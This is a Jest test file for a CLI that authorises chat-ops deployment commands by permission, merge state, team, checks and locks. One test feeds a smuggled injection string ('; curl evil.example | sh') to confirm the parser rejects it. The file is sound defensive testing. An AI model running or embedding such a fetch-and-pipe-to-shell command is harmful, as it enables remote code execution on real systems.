import { afterAll, describe, expect, it } from '@jest/globals';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { cli } from '../support/cli.js';

// `modelship chatops parse` runs the chatops action's own flow on stated facts: what users try before a PR.
const example = path.resolve('examples/iris');
const parse = async (comment: string, ...flags: string[]) => {
  const { code, stdout, stderr } = await cli(['chatops', 'parse', comment, ...flags, '--format', 'json'], { cwd: example });
  return { code, stderr, result: stdout ? JSON.parse(stdout) : undefined };
};

const dir = mkdtempSync(path.join(tmpdir(), 'modelship-chatops-parse-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('modelship chatops parse', () => {
  it('authorises a command the rules allow and shows what was checked, on the example configuration', async () => {
    const { code, result } = await parse('/deploy iris@1.1.0 to staging');
    expect(code).toBe(0);
    expect(result).toMatchObject({ decision: 'approved', code: 'ok', command: { name: 'deploy', model: 'iris', version: '1.1.0', env: 'staging', dryRun: false } });
    expect(result.passed).toEqual(expect.arrayContaining(['@octocat has write permission', 'head branch is in this repository']));
    expect(result.reply).toContain('Approved');
    expect(result.reactions).toEqual(['eyes']);
  });

  it('refuses production to a writer and to an unmerged pull request, as the example configures, and says why', async () => {
    const writer = await parse('/promote iris to production', '--permission', 'write', '--merged');
    expect(writer.code).toBe(1);
    expect(writer.result).toMatchObject({ decision: 'refused', code: 'permission_denied' });
    expect(writer.result.reason).toBe('@octocat has "write" permission; maintain, admin is needed for production');
    const unmerged = await parse('/promote iris to production', '--permission', 'admin');
    expect(unmerged.result).toMatchObject({ decision: 'refused', code: 'not_merged' });
    const wrongBase = await parse('/promote iris to production', '--permission', 'admin', '--merged', '--base', 'release');
    expect(wrongBase.result).toMatchObject({ decision: 'refused', code: 'base_branch' });
    const ok = await parse('/promote iris to production', '--permission', 'maintain', '--merged');
    expect(ok.code).toBe(0);
    expect(ok.result.decision).toBe('approved');
    expect(ok.result.facts.pullRequest).toEqual({ state: 'closed', merged: true, baseRef: 'main', fork: false });
  });

  it('refuses forks, edited comments and text that tries to smuggle shell syntax, like the action', async () => {
    expect((await parse('/rollback staging', '--fork')).result).toMatchObject({ decision: 'refused', code: 'fork' });
    const edited = await parse('/rollback staging', '--edited');
    expect(edited.result).toMatchObject({ decision: 'refused', code: 'not_created' });
    expect(edited.result.reply).toBeUndefined();
    const smuggled = await parse('/deploy iris to staging; curl evil.example | sh');
    expect(smuggled.code).toBe(1);
    expect(smuggled.result.code).toBe('parse_error');
    expect(smuggled.result.command).toBeUndefined();
    // A reader gets no grammar help: only that the permission is missing.
    expect((await parse('/deploy nope to staging', '--permission', 'read')).result).toMatchObject({ code: 'permission_denied' });
  });

  it('ignores an ordinary comment and exits 1, with no reply', async () => {
    const { code, result } = await parse('LGTM, ship it');
    expect(code).toBe(1);
    expect(result).toMatchObject({ decision: 'ignored', code: 'not_a_command' });
    expect(result.reply).toBeUndefined();
  });

  it('applies team, user and required-check rules from the configuration', async () => {
    const config = path.join(dir, 'modelship.yml');
    writeFileSync(
      config,
      [
        'version: 1',
        'models: { iris: { path: model.onnx } }',
        'environments:',
        '  production: { provider: { type: local } }',
        'chatops:',
        '  environments:',
        '    production: { teams: [ml-release], requiredChecks: ["Modelship checks"] }',
        '',
      ].join('\n'),
    );
    const run = (...flags: string[]) => cli(['chatops', 'parse', '/deploy iris@2.0.0 to production', '--config', config, '--format', 'json', ...flags], { cwd: dir });
    const outsider = JSON.parse((await run()).stdout);
    expect(outsider).toMatchObject({ decision: 'refused', code: 'user_not_allowed' });
    const member = JSON.parse((await run('--team', 'ML-Release')).stdout);
    expect(member).toMatchObject({ decision: 'refused', code: 'checks_failed' });
    expect(member.reason).toContain('Modelship checks (missing)');
    const pending = JSON.parse((await run('--team', 'ml-release', '--check', 'Modelship checks=pending')).stdout);
    expect(pending.reason).toContain('Modelship checks (still running)');
    const green = await run('--team', 'ml-release', '--check', 'Modelship checks=success');
    expect(green.code).toBe(0);
    expect(JSON.parse(green.stdout).decision).toBe('approved');
  });

  it('meets the local environment locks the deploy engine would meet, naming the holder', async () => {
    const config = path.join(dir, 'locks.yml');
    writeFileSync(config, 'version: 1\nmodels: { iris: { path: model.onnx } }\nenvironments:\n  staging: { provider: { type: local } }\n');
    const env = { GITHUB_ACTOR: 'alice' };
    expect((await cli(['lock', 'staging', '--config', config, '--reason', 'load test'], { cwd: dir, env })).code).toBe(0);
    const bob = JSON.parse((await cli(['chatops', 'parse', '/rollback staging', '--config', config, '--user', 'bob', '--format', 'json'], { cwd: dir })).stdout);
    expect(bob).toMatchObject({ decision: 'refused', code: 'locked' });
    expect(bob.reason).toContain('staging is locked by alice');
    const alice = JSON.parse((await cli(['chatops', 'parse', '/rollback staging', '--config', config, '--user', 'alice', '--format', 'json'], { cwd: dir })).stdout);
    expect(alice.decision).toBe('approved');
    expect((await cli(['unlock', 'staging', '--config', config], { cwd: dir, env })).code).toBe(0);
  });

  it('prints the decision and the reply for people, and rejects malformed facts with exit 2', async () => {
    const text = await cli(['chatops', 'parse', '/status'], { cwd: example });
    expect(text.code).toBe(0);
    expect(text.stdout).toMatch(/^APPROVED \(ok\)/);
    expect(text.stdout).toContain('The reply the action would post:');
    const badCheck = await cli(['chatops', 'parse', '/status', '--check', 'tests'], { cwd: example });
    expect(badCheck.code).toBe(2);
    expect(badCheck.stderr).toContain('--check "tests": expected NAME=CONCLUSION');
    const badUser = await cli(['chatops', 'parse', '/status', '--user', 'a;b'], { cwd: example });
    expect(badUser.code).toBe(2);
    expect(badUser.stderr).toContain('--user "a;b" is not a GitHub login');
  });
});
